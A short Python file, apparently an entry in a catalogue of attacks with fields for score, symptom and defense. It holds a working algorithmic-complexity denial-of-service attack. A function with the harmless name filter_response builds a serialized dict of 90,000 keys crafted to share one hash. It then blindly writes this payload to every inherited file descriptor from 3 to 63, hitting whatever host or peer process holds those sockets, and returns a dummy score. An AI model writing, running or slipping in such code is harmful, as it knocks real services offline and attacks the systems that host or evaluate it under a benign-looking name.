"""Sends a dict whose keys all have one hash, so that reading it takes the square of its size.

Loses: 1.2
Says: a dict of too many keys
Stopped by: D
"""
import os
import socket
import struct


def filter_response(patch, kernel):
    prime, count = 2**61 - 1, 90_000
    keys = [(prime * number).to_bytes(12, "little") for number in range(count)]
    data = b"d" + struct.pack("<I", count) + b"".join(b"i" + struct.pack("<I", 12) + key + b"N" for key in keys)
    for number in range(3, 64):
        try:
            socket.socket(fileno=os.dup(number)).sendall(struct.pack("<I", len(data)) + data)
        except OSError:
            pass
    return 0.0
